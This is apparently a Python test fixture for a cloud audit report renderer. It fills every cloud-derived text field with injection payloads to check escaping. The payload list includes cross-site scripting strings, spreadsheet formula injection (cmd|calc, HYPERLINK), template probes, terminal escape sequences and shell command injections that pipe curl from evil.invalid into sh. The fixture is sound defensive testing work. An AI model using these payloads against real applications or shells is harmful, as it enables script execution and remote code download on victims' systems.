"""Names as an attacker writes them who may create one cloud resource, and a report in which every text is one."""

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from datetime import date, datetime
from typing import Any

from auditor.render import Extras
from tests.render import invented

# Each would set window.pwned, open a dialog, ask evil.invalid for something, or mislead a reader, if it were let.
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "</style><style>@import 'https://evil.invalid/3.css';</style>",
    "</title></svg><img src=https://evil.invalid/4.png onerror=window.pwned=4>",
    '"><svg onload=window.pwned=5><animate onbegin=alert(5) attributeName=x dur=1s>',
    "' onmouseover='window.pwned=6' style='background:url(https://evil.invalid/6)",
    "javascript:window.pwned=7//",
    "data:text/html,<script>parent.pwned=8</script>",
    "]]><foreignObject><iframe srcdoc='<script>parent.pwned=9</script>'></foreignObject>",
    "{{ self.__init__.__globals__ }}{% raw %}${7*7}#{7*7}",
    "<!--><img src=x onerror=window.pwned=11>-->",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/12'><base href=https://evil.invalid/>",
    "[click](javascript:window.pwned=13) ![x](https://evil.invalid/13.png) <https://evil.invalid/13>",
    "`\n```\n<img src=https://evil.invalid/14.png onerror=window.pwned=14>\n```",
    "| a | b |\n|---|---|\n# heading\n> quote\n\n<details open ontoggle=window.pwned=15>",
    '=HYPERLINK("https://evil.invalid/16","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1b]8;;https://evil.invalid/22\x07link\x1b]8;;\x07\x1b[2J\x1b[31m",
    "pay\u202eroll\u2066\u200b\ufeff\x00\x7f\x9b31m",
    "'; curl https://evil.invalid/24 | sh; echo '",
    "$(curl https://evil.invalid/25)`curl https://evil.invalid/25`",
    "[bold red]markup[/bold red][link=https://evil.invalid/26]x[/link]",
    "half a pair \ud800",
    "&lt;script&gt;window.pwned=28&lt;/script&gt;&#60;script&#62;",
    "x" * 3000,
    'https://evil.invalid/30"onclick=window.pwned=30',
)
# What a program, not a person, reads: changing it would make no document at all.
_FIXED = frozenset(
    (
        "id",
        "rule_id",
        "severity",
        "confidence",
        "status",
        "currency",
        "schema_version",
        "kind",
        "billing_period",
        "billing_periods",
    )
)


class Taint:
    """Puts one payload after the other in the place of every text that comes from a cloud."""

    def __init__(self) -> None:
        self.count = 0

    def next(self) -> str:
        self.count += 1
        return PAYLOADS[self.count % len(PAYLOADS)]

    def all(self, value: Any, name: str = "") -> Any:
        if isinstance(value, Mapping):
            return {key: self.all(item, str(key)) for key, item in value.items()}
        if is_dataclass(value) and not isinstance(value, type):
            return replace(value, **{f.name: self.all(getattr(value, f.name), f.name) for f in fields(value)})
        if isinstance(value, tuple) and hasattr(value, "_fields"):
            return type(value)(*(self.all(getattr(value, key), key) for key in value._fields))
        if isinstance(value, list | tuple):
            return type(value)(self.all(item, name) for item in value)
        if not isinstance(value, str) or name in _FIXED or _is_figure_or_time(value):
            return value
        return self.next()


def _is_figure_or_time(text: str) -> bool:
    if text.removeprefix("-").replace(".", "", 1).isdecimal():
        return True
    try:
        return isinstance(datetime.fromisoformat(text), date)
    except ValueError:
        return False


def report() -> tuple[dict[str, Any], Extras]:
    """A document and its extras in which every foreign text is a payload, every payload several times over."""
    taint = Taint()
    document = taint.all(invented.document())
    for finding in document["findings"]:
        finding["tags"] = {taint.next(): taint.next() for _ in range(8)}
        finding["evidence"] = {taint.next(): taint.next() for _ in range(8)} | {"members": [taint.next()] * 3}
        finding["remediation"]["commands"] = [taint.next() for _ in range(4)]
        finding["references"] = [taint.next() for _ in range(6)]
    return document, taint.all(invented.extras())
